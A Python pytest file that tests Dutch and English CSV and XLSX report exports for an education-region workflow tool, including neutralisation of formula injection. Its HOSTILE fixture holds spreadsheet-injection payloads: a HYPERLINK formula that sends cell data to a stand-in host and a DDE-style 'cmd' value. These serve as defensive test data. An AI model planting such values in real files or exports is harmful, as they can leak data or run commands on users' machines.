"""The report in Dutch and for spreadsheets (issue 11, item 5 "Excel that opens").

CSV comes as one table per file, in the ``excel-nl`` dialect (``;`` and a decimal comma, the
default in Dutch) or ``excel`` (``,`` and a decimal point, the default in English); text that
a spreadsheet would run as a formula is neutralised; ``--format xlsx`` writes one sheet per
table with typed cells. Every file is read back the way a user's tools read it: the csv module
with the dialect, openpyxl for the workbook, the workbook's XML for formulas. The network is
that of ``test_report.py`` plus three regions whose names a spreadsheet would take for a
formula, reported on 25 November 2024.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from test_report import BEROEPSGROEP, REPORT_AT, built_network, make_app, run_cli

from onderwijsflow import i18n
from onderwijsflow.clock import Clock, parse_moment
from onderwijsflow.reporting import export
from onderwijsflow.reporting.national import national_report
from onderwijsflow.service import Onderwijsflow

#: Region names that start like a formula, and a coordinator that does.
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "som": "@SUM(1+1)*cmd|' /C calc'!A0",
    "streep": "-foo",
}
HOSTILE_COORDINATOR = "+31612345678@example.org"  # a valid address that a spreadsheet would add up

FILES = ["overzicht-samenvatting.csv", "overzicht-statussen.csv", "overzicht-voorwaarden.csv",
         "overzicht-themas.csv", "overzicht-peilgesprekken.csv", "overzicht-verlopen.csv",
         "overzicht-komend.csv", "overzicht-zonder-coordinator.csv",
         "overzicht-zonder-projectleiding.csv"]

SHEETS = ["Samenvatting", "Regio's per status", "Voorwaarden", "Thema's zonder actie",
          "Peilgesprekken niet gehouden", "Verlopen mijlpalen", "Komende mijlpalen",
          "Zonder coördinator", "Zonder projectleiding"]

#: Words a Dutch header may share with English.
SHARED_WORDS = {"Workflow", "Workflows", "Code", "per", "in", "of", "Peilgesprekken", "peilgesprekken"}


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The network of test_report.py plus the hostile regions, built once (tests only read)."""
    def hostile(app: Onderwijsflow) -> None:
        for slug, name in HOSTILE.items():
            app.create_region(slug, name=name, sectors=["PO"],
                              coordinator=HOSTILE_COORDINATOR if slug == "streep" else None)

    return built_network(tmp_path_factory.mktemp("network-nl"), hostile)


@pytest.fixture(scope="module")
def report(db: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    reader = make_app(tmp_path_factory.mktemp("reader-nl"), db, clock=Clock(parse_moment(REPORT_AT)))
    try:
        return national_report(reader, weeks=2)
    finally:
        reader.close()


def cli(tmp_path: Path, db: Path, *args: str) -> tuple[int, str, str]:
    return run_cli(tmp_path, db, *args)


def read_csv(path: Path, dialect: str) -> list[list[str]]:
    """A CSV file as Excel would get it: UTF-8 with a byte-order mark, cut by `dialect`."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no byte-order mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), dialect=dialect))


def english_header_words() -> set[str]:
    """Every word of the English headers and titles, but those Dutch uses too."""
    with i18n.using("en"):
        tables = export.tables(_sample_report())
    words = {w for t in tables for text in _words_of(t) for w in re.findall(r"[A-Za-z]+", text)}
    return words - SHARED_WORDS


def _words_of(table: export.Table) -> list[str]:
    """The header row, the title and sheet name, and the labels of the summary's rows."""
    labels = [row[0] for row in table.rows] if table.name == "samenvatting" else []
    return [*table.columns, table.sheet, table.title, *labels]


def _sample_report() -> dict[str, Any]:
    return {"generated_at": "2024-11-25T09:00:00+01:00", "weeks": 2, "within": "P2W",
            "horizon": "2024-12-09T09:00:00+01:00",
            "totals": dict.fromkeys(("regions", "active_regions", "closed_regions", "cases",
                                     "blocked_regions", "overdue", "upcoming", "without_coordinator",
                                     "without_lead", "missing_values", "overdue_conversations"), 0),
            "workflows": [], "blocking": [], "overdue": [], "upcoming": [], "without_coordinator": [],
            "without_lead": []}


# --- CSV, one table per file ----------------------------------------------------------------------


def test_dutch_csv_is_one_table_per_file_with_semicolons_and_a_decimal_comma(
        tmp_path: Path, db: Path, report: dict[str, Any]) -> None:
    out = tmp_path / "export"
    code, stdout, err = cli(tmp_path, db, "--lang", "nl", "report", "--format", "csv",
                            "--within", "P2W", "--out", f"{out}/")
    assert code == 0, err
    assert stdout == "" and err.startswith("overzicht (csv) geschreven naar 9 bestanden in ")
    assert sorted(p.name for p in out.iterdir()) == sorted(FILES)  # no temporary file left
    for name in FILES:
        text = (out / name).read_bytes().decode("utf-8-sig")
        assert csv.Sniffer().sniff(text.splitlines()[0] + "\n" + text.splitlines()[-1]).delimiter == ";"
        rows = read_csv(out / name, "excel-nl")
        assert rows, name
        widths = {len(row) for row in rows}
        assert len(widths) == 1, f"{name}: one table, one width: {widths}"
        assert [] not in rows, f"{name}: no empty line inside a table"
    requirements = read_csv(out / "overzicht-voorwaarden.csv", "excel-nl")
    assert requirements[0] == ["Voorwaarde", "Aantal regio's", "Aandeel actieve regio's (%)",
                               "Workflows", "Regio's"]
    first = dict(zip(requirements[0], requirements[1], strict=True))
    active = report["totals"]["active_regions"]
    top = report["blocking"][0]
    assert first["Voorwaarde"] == top["label"] and first["Aantal regio's"] == str(top["count"])
    share = f"{round(100 * top['count'] / active, 1):.1f}".replace(".", ",")
    assert first["Aandeel actieve regio's (%)"] == share and re.fullmatch(r"\d+,\d", share)
    beroepsgroep = next(dict(zip(requirements[0], r, strict=True)) for r in requirements[1:]
                        if r[0] == BEROEPSGROEP)
    assert beroepsgroep["Workflows"] == "regiovorming, subsidie"
    assert beroepsgroep["Regio's"] == "Bollen, Delta"  # names a person reads
    overdue = read_csv(out / "overzicht-verlopen.csv", "excel-nl")
    assert overdue == [["Vervalt", "Regio", "Naam regio", "Workflow", "Ronde", "Mijlpaal"],
                       ["2024-10-15 16:00", "amstel", "Amstel", "subsidie", "2025",
                        "Deadline subsidieaanvraag"],
                       ["2024-10-15 16:00", "delta", "Delta", "subsidie", "2025",
                        "Deadline subsidieaanvraag"]]
    summary = dict(read_csv(out / "overzicht-samenvatting.csv", "excel-nl")[1:])
    assert summary["Gemaakt op"] == "2024-11-25 09:00"
    assert summary["Mijlpalen in de komende 2 weken"] == "1"
    assert summary["Regio's"] == str(report["totals"]["regions"]) == "8"
    states = read_csv(out / "overzicht-statussen.csv", "excel-nl")
    assert states[0] == ["Workflow", "Ronde", "Status", "Code", "Eindstatus", "Regio's"]
    assert ["regiovorming", "", "Ingetrokken door de regio", "ingetrokken", "ja", "1"] in states


def test_text_that_starts_like_a_formula_is_neutralised_in_every_csv(tmp_path: Path, db: Path) -> None:
    out = tmp_path / "export"
    code, _, err = cli(tmp_path, db, "--lang", "nl", "report", "--format", "csv", "--out", f"{out}/")
    assert code == 0, err
    cells = [cell for name in FILES for row in read_csv(out / name, "excel-nl") for cell in row]
    dangerous = [c for c in cells if c.startswith(export.FORMULA_START)]
    assert dangerous == [], "no cell starts like a formula"
    no_coordinator = read_csv(out / "overzicht-zonder-coordinator.csv", "excel-nl")
    names = {row[0]: row[1] for row in no_coordinator[1:]}
    assert names["hyperlink"] == "'" + HOSTILE["hyperlink"]
    assert names["som"] == "'" + HOSTILE["som"]
    no_lead = {row[0]: row for row in read_csv(out / "overzicht-zonder-projectleiding.csv", "excel-nl")[1:]}
    assert no_lead["streep"] == ["streep", "'-foo", "'" + HOSTILE_COORDINATOR]
    # Inside a joined list the text is one cell's middle, not its start: left as it is.
    requirements = read_csv(out / "overzicht-voorwaarden.csv", "excel-nl")
    assert any(row[4].startswith("'-foo, " + HOSTILE["hyperlink"]) for row in requirements[1:])
    # The tool's own numbers are numbers, not text with a quote.
    assert all(re.fullmatch(r"\d+", row[1]) for row in requirements[1:])


def test_one_table_to_a_named_file_in_the_excel_dialect(tmp_path: Path, db: Path,
                                                       report: dict[str, Any]) -> None:
    target = tmp_path / "voorwaarden.csv"
    code, _, err = cli(tmp_path, db, "--lang", "nl", "report", "--format", "csv", "--dialect", "excel",
                       "--section", "voorwaarden", "--out", str(target))
    assert code == 0, err
    assert err.strip() == f"overzicht (csv) geschreven naar {target}"
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".csv") == ["voorwaarden.csv"]
    text = target.read_bytes().decode("utf-8-sig")
    assert text.splitlines()[0] == "Voorwaarde,Aantal regio's,Aandeel actieve regio's (%),Workflows,Regio's"
    rows = read_csv(target, "excel")
    shares = [row[2] for row in rows[1:]]
    assert shares and all(re.fullmatch(r"\d+\.\d", s) for s in shares)  # a decimal point
    assert len(rows) == len(report["blocking"]) + 1
    # One table to a directory: its file there, named as without --section.
    code, _, err = cli(tmp_path, db, "report", "--format", "csv", "--section", "verlopen",
                       "--out", str(tmp_path))
    assert code == 0, err
    assert read_csv(tmp_path / "overzicht-verlopen.csv", "excel")[0][0] == "Due"


def test_a_base_name_gives_one_file_per_table_next_to_it(tmp_path: Path, db: Path) -> None:
    code, _, err = cli(tmp_path, db, "report", "--format", "csv", "--out", str(tmp_path / "landelijk.csv"))
    assert code == 0, err
    written = sorted(p.name for p in tmp_path.glob("landelijk*"))
    assert written == sorted(f"landelijk-{name[len('overzicht-'):]}" for name in FILES)
    rows = read_csv(tmp_path / "landelijk-verlopen.csv", "excel")  # English: the comma dialect
    assert rows[0] == ["Due", "Region", "Region name", "Workflow", "Round", "Milestone"]


def test_csv_on_stdout_one_table_or_every_table_in_turn(tmp_path: Path, db: Path) -> None:
    code, out, err = cli(tmp_path, db, "--lang", "nl", "report", "--format", "csv",
                         "--section", "verlopen")
    assert code == 0 and err == ""
    assert not out.startswith("\ufeff")  # a byte-order mark only in files
    rows = list(csv.reader(io.StringIO(out, newline=""), dialect="excel-nl"))
    assert rows[0] == ["Vervalt", "Regio", "Naam regio", "Workflow", "Ronde", "Mijlpaal"]
    assert [r[1] for r in rows[1:]] == ["amstel", "delta"]
    code, out, _ = cli(tmp_path, db, "--lang", "nl", "report", "--format", "csv", "--within", "P2W")
    assert code == 0
    blocks = out.split("\r\n\r\n")
    titles = [next(csv.reader(io.StringIO(b, newline=""), dialect="excel-nl"))[0] for b in blocks]
    assert titles == ["Samenvatting", "Regio's per status", "Voorwaarden die de meeste regio's tegenhouden",
                      "Thema's zonder actie", "Peilgesprekken die niet zijn gehouden",
                      "Verlopen mijlpalen", "Mijlpalen in de komende 2 weken", "Regio's zonder coördinator",
                      "Regio's zonder programmamanager of projectleider"]
    code, out, _ = cli(tmp_path, db, "report", "--format", "csv", "--section", "verlopen")
    assert out.splitlines()[0] == "Due,Region,Region name,Workflow,Round,Milestone"  # English default


def test_dutch_headers_have_no_english_words(tmp_path: Path, db: Path, report: dict[str, Any]) -> None:
    english = english_header_words()
    assert {"Region", "Due", "Milestone", "Requirement", "Share", "Summary"} <= english
    with i18n.using("nl"):
        tables = export.tables(report)
    for table in tables:
        for text in _words_of(table):
            found = set(re.findall(r"[A-Za-z]+", text)) & english
            assert not found, f"{table.name}: English in '{text}': {found}"


# --- the workbook ---------------------------------------------------------------------------------


def test_the_xlsx_workbook_has_a_typed_sheet_per_table(tmp_path: Path, db: Path,
                                                       report: dict[str, Any]) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "landelijk.xlsx"
    code, out, err = cli(tmp_path, db, "--lang", "nl", "report", "--format", "xlsx", "--within", "P2W",
                         "--out", str(target))
    assert code == 0, err
    assert out == "" and err.strip() == f"overzicht (xlsx) geschreven naar {target}"
    book = load_workbook(target)
    assert book.sheetnames == SHEETS
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(cell.font.b for cell in sheet[1]), sheet.title
        assert all(isinstance(cell.value, str) for cell in sheet[1]), sheet.title
    requirements = book["Voorwaarden"]
    header = [c.value for c in requirements[1]]
    assert header == ["Voorwaarde", "Aantal regio's", "Aandeel actieve regio's (%)", "Workflows", "Regio's"]
    counts = [row[1] for row in requirements.iter_rows(min_row=2)]
    shares = [row[2] for row in requirements.iter_rows(min_row=2)]
    assert counts and all(c.data_type == "n" and isinstance(c.value, int) for c in counts)
    assert [c.value for c in counts] == [b["count"] for b in report["blocking"]]
    assert all(c.data_type == "n" and isinstance(c.value, float) for c in shares)
    assert shares[0].value == round(100 * report["blocking"][0]["count"]
                                    / report["totals"]["active_regions"], 1)
    overdue = book["Verlopen mijlpalen"]
    due = overdue["A2"]
    assert due.is_date and due.value == dt.datetime(2024, 10, 15, 16, 0)
    assert overdue["C2"].value == "Amstel" and overdue["E2"].value == "2025"
    summary = {row[0].value: row[1] for row in book["Samenvatting"].iter_rows(min_row=2)}
    assert summary["Gemaakt op"].is_date and summary["Gemaakt op"].value == dt.datetime(2024, 11, 25, 9)
    assert summary["Regio's"].value == 8 and summary["Regio's"].data_type == "n"
    names = {row[0].value: row[1] for row in book["Zonder coördinator"].iter_rows(min_row=2)}
    for slug in ("hyperlink", "som"):
        cell = names[slug]
        assert cell.data_type == "s" and cell.value == HOSTILE[slug]  # text, as it was given
        assert cell.quotePrefix
    with zipfile.ZipFile(target) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 9
        assert not any("<f>" in archive.read(n).decode() or "<f " in archive.read(n).decode()
                       for n in sheets), "no formula anywhere"


def test_xlsx_needs_a_file_and_section_is_for_csv(tmp_path: Path, db: Path) -> None:
    code, out, err = cli(tmp_path, db, "--lang", "nl", "report", "--format", "xlsx")
    assert code == 2 and out == ""
    assert err.strip() == ("fout: --format xlsx schrijft een werkmap: "
                           "geef het bestand op met --out BESTAND.xlsx")
    code, _, err = cli(tmp_path, db, "report", "--format", "md", "--section", "verlopen")
    assert code == 2 and "--section" in err


def test_a_directory_that_cannot_be_made_is_one_sentence_and_nothing_is_left(tmp_path: Path,
                                                                           db: Path) -> None:
    blocker = tmp_path / "bestand"
    blocker.write_text("x", encoding="utf-8")
    code, out, err = cli(tmp_path, db, "--lang", "nl", "report", "--format", "csv",
                         "--out", f"{blocker}/sub/")
    assert code == 1 and out == ""
    assert err.startswith(f"fout: kan het overzicht niet schrijven naar {blocker}/sub/")
    assert len(err.strip().splitlines()) == 1
    code, _, err = cli(tmp_path, db, "report", "--format", "csv", "--out", str(tmp_path / "nope" / "x.csv"))
    assert code == 1 and "cannot write the report to" in err
    assert not list(tmp_path.rglob("*.tmp"))


# --- neutralising, unit by unit -------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "\uff1dcmd"])
def test_formula_starts_get_a_quote(text: str) -> None:
    assert export.neutralise(text) == "'" + text
    assert export.csv_cell(text, "excel-nl") == "'" + text


@pytest.mark.parametrize("text", ["Amstel", "3-1", "a=b", "'quoted", ""])
def test_other_text_is_left_alone(text: str) -> None:
    assert export.csv_cell(text, "excel-nl") == text


def test_numbers_the_tool_writes_stay_numbers() -> None:
    assert export.csv_cell(-3, "excel-nl") == "-3"
    assert export.csv_cell(-2.5, "excel-nl") == "-2,5" and export.csv_cell(-2.5, "excel") == "-2.5"
    assert export.csv_cell(1275000.5, "excel-nl") == "1275000,5"  # no thousands separator
    assert export.csv_cell(dt.datetime(2024, 10, 15, 16, 0), "excel-nl") == "2024-10-15 16:00"


def test_the_dialects_are_registered_with_the_csv_module() -> None:
    assert csv.get_dialect("excel-nl").delimiter == ";"
    assert csv.get_dialect("excel").delimiter == ","
    with i18n.using("nl"):
        assert export.default_dialect() == "excel-nl"
    with i18n.using("en"):
        assert export.default_dialect() == "excel"


# --- the other formats in Dutch -------------------------------------------------------------------


def test_markdown_table_and_html_speak_dutch(tmp_path: Path, db: Path, report: dict[str, Any]) -> None:
    code, out, _ = cli(tmp_path, db, "--lang", "nl", "report", "--format", "md", "--within", "P2W")
    assert code == 0
    assert out.startswith("# Landelijk beeld onderwijsregio's\n")
    assert "Gemaakt op maandag 25 november 2024, 09:00." in out
    headings = re.findall(r"^#+ (.*)$", out, flags=re.M)
    assert "Subsidietraject onderwijsregio (subsidie, ronde 2025): 2 regio's" in headings
    assert "Voorwaarden die de meeste regio's tegenhouden" in headings
    assert "Mijlpalen in de komende 2 weken" in headings
    top = report["blocking"][0]
    assert top["count"] > 1 and f"- {top['count']} regio's missen: {top['label']}" in out
    assert f"| 2 | {BEROEPSGROEP} | regiovorming, subsidie | Bollen, Delta |" in out
    assert "| 15-10-2024 16:00 | Amstel | subsidie 2025 | Deadline subsidieaanvraag |" in out
    assert "| Ingetrokken door de regio (eindstatus) | ingetrokken | 1 |" in out
    code, out, _ = cli(tmp_path, db, "--lang", "nl", "report")
    assert code == 0 and "Landelijk beeld onderwijsregio's, gemaakt op maandag" in out
    assert "Totalen" in out and "Aantal" in out
    code, out, _ = cli(tmp_path, db, "--lang", "nl", "report", "--format", "html")
    assert '<html lang="nl">' in out and "<h2>Regio&#x27;s per status</h2>" in out


# --- how far ahead: --within, and --weeks as its old form --------------------------------------------


def test_within_takes_an_iso_duration_and_weeks_still_works_with_a_note(tmp_path: Path, db: Path,
                                                                      report: dict[str, Any]) -> None:
    code, out, err = cli(tmp_path, db, "report", "--json", "--within", "P2W")
    assert code == 0 and err == ""
    assert json.loads(out) == report
    code, out, err = cli(tmp_path, db, "report", "--json", "--weeks", "2")
    assert code == 0 and json.loads(out) == report
    assert err == "note: --weeks is deprecated; use --within P2W\n"
    code, out, err = cli(tmp_path, db, "--lang", "nl", "report", "--json", "--weeks", "2")
    assert code == 0 and json.loads(out)["within"] == "P2W"
    assert err == "let op: --weeks is verouderd; gebruik --within P2W\n"
    code, out, err = cli(tmp_path, db, "report", "--help")
    assert code == 0 and "--within" in out and "--weeks" not in out  # hidden


def test_within_in_months_days_or_zero(tmp_path: Path, db: Path) -> None:
    def run(*args: str) -> str:
        code, out, err = cli(tmp_path, db, *args)
        assert code == 0, err
        return out

    month = json.loads(run("report", "--json", "--within", "P1M"))
    assert (month["within"], month["horizon"], month["weeks"]) == ("P1M", "2024-12-25T09:00:00+01:00", 4.3)
    assert "## Mijlpalen in de komende 1 maand" in run("--lang", "nl", "report", "--format", "md",
                                                        "--within", "P1M")
    # The review on 2 December 09:00 is exactly seven days ahead.
    assert json.loads(run("report", "--json", "--within", "P6D"))["upcoming"] == []
    upcoming = json.loads(run("report", "--json", "--within", "P7D"))["upcoming"]
    assert [r["region"] for r in upcoming] == ["bollen"]
    zero = json.loads(run("report", "--json", "--within", "P0D"))
    assert zero["upcoming"] == [] and zero["weeks"] == 0 and len(zero["overdue"]) == 2
    assert "## Mijlpalen in de komende 0 dagen" in run("--lang", "nl", "report", "--format", "md",
                                                        "--within", "P0D")
    odd = run("--lang", "nl", "report", "--format", "md", "--within", "P1W2D")
    assert "## Mijlpalen die uiterlijk 4 dec 2024 vervallen" in odd


def test_a_bad_duration_or_both_forms_are_usage_errors(tmp_path: Path, db: Path) -> None:
    code, out, err = cli(tmp_path, db, "--lang", "nl", "report", "--within", "6W")
    assert code == 2 and out == ""
    assert err.startswith("fout: --within: '6W' ") and len(err.strip().splitlines()) == 1
    code, _, err = cli(tmp_path, db, "report", "--within", "P2W", "--weeks", "2")
    assert code == 2 and "give only --within" in err
